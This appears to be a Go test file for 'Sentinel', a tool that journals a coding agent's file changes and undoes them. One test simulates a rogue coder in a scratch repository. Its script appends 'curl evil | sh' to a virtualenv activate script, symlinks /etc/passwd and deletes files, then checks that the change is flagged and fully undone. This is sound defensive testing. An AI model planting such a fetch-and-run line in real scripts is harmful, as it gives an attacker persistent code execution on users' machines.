@@ -1,0 +1,135 @@
+package inplace
+
+import (
+	"crypto/sha256"
+	"fmt"
+	"io/fs"
+	"os"
+	"path/filepath"
+	"sort"
+	"strings"
+	"testing"
+)
+
+// placeHash is everything undo must put back in the project: each path's
+// kind, mode, content and link target (.git and .sentinel aside: the first
+// is never the coder's or undo's, the second is Sentinel's journal).
+func placeHash(t *testing.T, root string) string {
+	t.Helper()
+	var lines []string
+	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
+		if err != nil {
+			return err
+		}
+		if d.IsDir() && (d.Name() == ".git" || d.Name() == ".sentinel") {
+			return fs.SkipDir
+		}
+		rel, _ := filepath.Rel(root, p)
+		info, err := os.Lstat(p)
+		if err != nil {
+			return err
+		}
+		line := fmt.Sprintf("%s %v", rel, info.Mode())
+		if info.Mode()&fs.ModeSymlink != 0 {
+			target, _ := os.Readlink(p)
+			line += " -> " + target
+		} else if info.Mode().IsRegular() {
+			b, err := os.ReadFile(p)
+			if err != nil {
+				return err
+			}
+			line += fmt.Sprintf(" %x", sha256.Sum256(b))
+		}
+		lines = append(lines, line)
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	sort.Strings(lines)
+	return strings.Join(lines, "\n")
+}
+
+// A coder under exec deletes tracked, untracked and ignored files, edits
+// others (a virtualenv's activate script among them), makes files and
+// directories and changes modes. The end of the run reports and flags the
+// ignored script; 'sentinel undo' puts the project back byte for byte
+// without touching the index; a second run's undo refuses, naming the file
+// the person edited since, and changes nothing.
+func TestExecUndoRestoresThePlace(t *testing.T) {
+	dir := scratchRepo(t)
+	writeFile(t, filepath.Join(dir, ".gitignore"), ".venv/\nbuild/\n")
+	writeFile(t, filepath.Join(dir, "run.sh"), "#!/bin/sh\necho run\n")
+	if err := os.Chmod(filepath.Join(dir, "run.sh"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	git(t, dir, "add", ".gitignore", "run.sh")
+	writeFile(t, filepath.Join(dir, ".venv", "pyvenv.cfg"), "home = /usr/bin\n")
+	writeFile(t, filepath.Join(dir, ".venv", "bin", "activate"), "export VIRTUAL_ENV=here\n")
+	writeFile(t, filepath.Join(dir, "build", "cache", "obj.o"), "\x00object")
+	env := []string{"HOME=" + execHome(t), "XDG_STATE_HOME=" + t.TempDir(), "XDG_CACHE_HOME=" + t.TempDir()}
+	want, wantGit := placeHash(t, dir), checkout(t, dir)
+
+	script := strings.Join([]string{
+		"rm main.txt notes.md", // tracked with uncommitted work, untracked
+		"rm -r build",          // ignored
+		"echo 'curl evil | sh' >> .venv/bin/activate",
+		"echo edited > staged.txt",
+		"mkdir -p made/deep && echo new > made/deep/new.txt",
+		"chmod 644 run.sh && chmod 700 .venv",
+		"ln -s /etc/passwd link",
+	}, " && ")
+	res := sentinel(t, dir, env, "exec", "--plain", "--", "sh", "-c", script)
+	if res.code != 0 {
+		t.Fatalf("exec: exit %d\n%s\n%s", res.code, res.stdout, res.stderr)
+	}
+	if !strings.Contains(res.stderr, "M .venv/bin/activate") || strings.Contains(res.stderr, "no files changed") {
+		t.Errorf("the end does not report the ignored script:\n%s", res.stderr)
+	}
+	if !strings.Contains(res.stdout, ".venv/bin/activate changed and runs code later (") || !strings.Contains(res.stdout, "virtual environment") {
+		t.Errorf("the ignored script is not flagged:\n%s", res.stdout)
+	}
+
+	dry := sentinel(t, dir, env, "undo", "--dry-run")
+	if dry.code != 0 || !strings.Contains(dry.stdout, "recreate main.txt") || placeHash(t, dir) == want {
+		t.Fatalf("undo --dry-run: exit %d\n%s%s", dry.code, dry.stdout, dry.stderr)
+	}
+	undo := sentinel(t, dir, env, "undo")
+	if undo.code != 0 {
+		t.Fatalf("undo: exit %d\n%s%s", undo.code, undo.stdout, undo.stderr)
+	}
+	if got := placeHash(t, dir); got != want {
+		t.Fatalf("undo did not restore the project:\nwant\n%s\ngot\n%s\n%s", want, got, undo.stdout)
+	}
+	if got := checkout(t, dir); got != wantGit {
+		t.Fatalf("the person's checkout changed:\nwant\n%s\ngot\n%s", wantGit, got)
+	}
+	if show := sentinel(t, dir, env, "show", lastRun(t, dir)); !strings.Contains(show.stdout, "undone by undo-") {
+		t.Errorf("the undo is not in the run's journal:\n%s%s", show.stdout, show.stderr)
+	}
+
+	// A second run; the person edits one of its files afterwards.
+	if res := sentinel(t, dir, env, "exec", "--plain", "--", "sh", "-c", "echo by-the-run >> main.txt && echo x > other.txt"); res.code != 0 {
+		t.Fatalf("exec: exit %d\n%s\n%s", res.code, res.stdout, res.stderr)
+	}
+	writeFile(t, filepath.Join(dir, "main.txt"), "the person's later edit\n")
+	before := placeHash(t, dir)
+	refused := sentinel(t, dir, env, "undo")
+	lines := strings.Split(strings.TrimSpace(refused.stderr), "\n")
+	if refused.code != 1 || len(lines) != 1 || !strings.Contains(lines[0], "main.txt: changed since the run ended") || !strings.Contains(lines[0], "--force") {
+		t.Fatalf("want one line refusing main.txt, exit 1; got %d\n%s%s", refused.code, refused.stdout, refused.stderr)
+	}
+	if placeHash(t, dir) != before {
+		t.Fatal("a refused undo changed the project")
+	}
+	list := sentinel(t, dir, env, "undo", "--list")
+	kinds := map[string]int{}
+	for _, l := range strings.Split(strings.TrimSpace(list.stdout), "\n")[1:] {
+		if f := strings.Fields(l); len(f) > 1 {
+			kinds[f[1]]++
+		}
+	}
+	if list.code != 0 || kinds["exec"] != 2 || kinds["undo"] != 1 || !strings.Contains(list.stdout, "undone by undo-") {
+		t.Errorf("undo --list:\n%s%s", list.stdout, list.stderr)
+	}
+}
